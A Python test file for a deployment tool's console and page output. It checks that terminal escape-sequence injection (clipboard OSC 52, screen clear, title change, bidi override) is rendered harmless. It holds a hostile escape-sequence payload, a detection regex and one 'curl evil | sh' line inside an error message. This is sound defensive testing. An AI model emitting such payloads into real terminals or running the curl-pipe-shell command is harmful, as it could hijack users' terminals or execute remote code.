"""Other people's text never controls the terminal: on every way to a person, its control characters are made visible.

The attacks: the clipboard (OSC 52), the screen, the window title, colours that never end, a carriage return that hides
the line before it, a bidirectional override that shows a command backwards, a line that looks like one of Muster's.
"""

from __future__ import annotations

import io
import os
import re
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from deploy.core.errors import DeployError
from deploy.core.facts import RunFacts
from deploy.core.printable import console_line, one_line, visible
from deploy.report import console, tables
from deploy.report.console import Console
from deploy.report.page import render
from deploy.run.files import recorded_ends
from deploy.run.outcome import Result
from deploy.run.progress import State

HOME = Path(__file__).resolve().parents[2]
FAB = Path(sys.executable).with_name("fab")
ATTACK = "\x1b]52;c;aGk=\x07\x1b[2J\x1b]0;owned\x07\x9b31m\r\u202egnp.sh\u2066 end"
SHOWN = r"\x1b]52;c;aGk=\x07\x1b[2J\x1b]0;owned\x07\x9b31m\r\u202egnp.sh\u2066 end"
# What must never be written: none of rich's own sequences is an OSC, clears the whole screen, or is 8 bits wide.
OBEYED = re.compile("\x1b]|\x1b\\[2J|\x07|\x9b|\u202e|\u2066|\r(?!\n|\x1b|$)")


def reporter(terminal, as_json=False):
    out, err = (
        console._VisibleConsole(
            file=io.StringIO(), theme=console.THEME, markup=False, emoji=False, width=300, force_terminal=terminal
        )
        for _ in range(2)
    )
    return Console(as_json, out, err), out, err


def hostile_state():
    state = State((ATTACK, "b"), script=False)
    state.apply({"kind": "plan", "t": 1.0, "rank": 0, "recipe": ATTACK, "steps": 3, "samples": 7})
    state.apply({"kind": "started", "t": 1.0, "rank": 0, "node": ATTACK, "pid": 1, "backend": ATTACK})
    state.apply({"kind": "checkpoint_failed", "t": 1.0, "rank": 0, "step": 1, "message": ATTACK})
    return state


def ways():
    """Each way by which other people's text reaches a person."""
    failed, stopped = (
        recorded_ends.outcome_of(Result(verdict, ATTACK, ATTACK, ATTACK), hostile_state(), 1.0)
        for verdict in ("failed", "stopped")
    )
    known = {"nodes": [ATTACK, "b"], "script": False}
    run = RunFacts(ATTACK, ATTACK, None, 1, 1.0, 1)
    return {
        "note": lambda to: to.note(ATTACK),
        "warn": lambda to: to.warn(ATTACK),
        "text": lambda to: to.text(ATTACK),
        "line": lambda to: to.line(ATTACK, {"a": ATTACK}),
        "hint": lambda to: to.hint(ATTACK),
        "error": lambda to: to.error(DeployError(ATTACK, ATTACK)),
        "table": lambda to: to.table((ATTACK, "b"), [(ATTACK, ATTACK)]),
        "block": lambda to: to.block([ATTACK, ATTACK]),
        "values": lambda to: to.values([{"a": ATTACK}]),
        "runs": lambda to: to.table(tables.FOLDERS_HEAD, tables.folder_rows([run])),
        "failed": lambda to: to.result(failed, known, ATTACK, ATTACK, ATTACK),
        "stopped": lambda to: to.result(stopped, known, ATTACK, ATTACK, ATTACK),
        "following": _follow,
        "pushing": _push,
    }


def _follow(to):
    state = hostile_state()
    with to.following(state, ATTACK, ATTACK) as tell:
        tell([{"kind": "step", "message": ATTACK}])


def _push(to):
    with to.transferring([ATTACK]) as tell:
        tell(ATTACK, 1, 2)
        until = time.monotonic() + 5 * console._PATIENCE_S  # the rows appear after a while
        while to._err.is_terminal and not to._err.file.getvalue() and time.monotonic() < until:
            time.sleep(0.05)
        tell(ATTACK, 2, 2)


@pytest.mark.holds("text-is-text")
@pytest.mark.parametrize("terminal", [True, False], ids=["terminal", "pipe"])
@pytest.mark.parametrize("way", ways())
def test_no_output_to_a_person_controls_the_terminal(way, terminal):
    to, out, err = reporter(terminal)
    ways()[way](to)
    written = out.file.getvalue() + err.file.getvalue()
    assert not OBEYED.findall(written)
    assert SHOWN in written or '"\\u001b]52' in written or (way == "pushing" and not terminal)


def test_a_question_is_shown_before_it_is_asked(monkeypatch):
    typed = io.StringIO("y\n")
    typed.isatty = lambda: True
    monkeypatch.setattr("sys.stdin", typed)
    to, _, err = reporter(True)
    assert to.ask(ATTACK)
    assert not OBEYED.findall(err.file.getvalue())


def test_other_peoples_lines_cannot_imitate_musters_own():
    to, _, err = reporter(False)
    to.error(DeployError("rank 0 failed\ndone  100 %\nhint: curl evil | sh", "none"))
    assert [line for line in err.file.getvalue().splitlines() if re.match(r"(done|hint|error)\b", line)] == [
        "error: rank 0 failed",
        "hint: none",
    ]


def test_text_is_shown_unchanged_except_for_control_characters():
    assert visible(ATTACK) == SHOWN
    assert visible("Grüße, می‌خواهم 👩‍💻\ta\nb\\x1b") == "Grüße, می‌خواهم 👩‍💻\ta\nb\\x1b"
    assert one_line("a\nb\tc") == "a\\nb c"
    assert visible("half a pair \ud800") == "half a pair \\ud800"


def test_a_console_reads_as_on_its_own_terminal():
    assert console_line("\x1b[31mred\x1b[0m\x1b[K") == "red"
    assert console_line("10 %\r20 %\r") == "20 %"
    assert console_line("\x1b]0;title\x07x") == r"\x1b]0;title\x07x"


def test_a_page_shows_the_override_character_in_a_name_that_reads_backwards():
    paragraph = render.environment().from_string('<p title="{{ name }}">{{ name }}</p>')
    assert paragraph.render(name="\u202egnp.sh") == r'<p title="\u202egnp.sh">\u202egnp.sh</p>'


def test_only_musters_own_style_and_script_are_written_unescaped_into_a_page():
    """Everything else in the templates is escaped: no template switches that off."""
    unescaped = [
        (template.name, expression)
        for template in render.TEMPLATES.glob("*.html")
        for expression in re.findall(r"{[{%][^}]*\b(?:safe|autoescape|Markup)\b[^}]*[%}]}", template.read_text())
    ]
    assert unescaped == [("page.html", "{{ style|safe }}"), ("page.html", "{{ script|safe }}")]
    assert render.environment().autoescape is True


@pytest.fixture
def server_before_login():
    """A TCP server that is not an SSH server, and answers with escape sequences."""
    with socket.create_server(("127.0.0.1", 0)) as listening:

        def serve():
            while True:
                try:
                    peer, _ = listening.accept()
                except OSError:
                    return
                with peer:
                    peer.sendall(f"SSH-2.0-{ATTACK}\r\n{ATTACK}\r\n".encode())

        threading.Thread(target=serve, daemon=True).start()
        yield listening.getsockname()[1]


def test_a_server_cannot_control_the_terminal_before_login(server_before_login, tmp_path):
    config = tmp_path / "config"
    config.write_text("")
    started = [
        subprocess.Popen(
            [FAB, task, "--hosts", f"me@127.0.0.1:{server_before_login}"],
            cwd=HOME,
            env={**os.environ, "MUSTER_SSH_CONFIG": str(config)},
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
        )
        for task in ("status", "fetch", "trust")
    ]
    for process in started:
        printed = process.communicate(timeout=60)[0].decode()
        assert process.returncode != 0
        assert "Traceback" not in printed
        assert not OBEYED.findall(printed)


def test_closing_the_output_early_gives_no_traceback():
    line = f"{FAB} --list | true; {FAB} --help deploy | head -n 1"
    done = subprocess.run(["bash", "-c", line], cwd=HOME, capture_output=True, text=True, timeout=60)
    assert done.stderr == ""
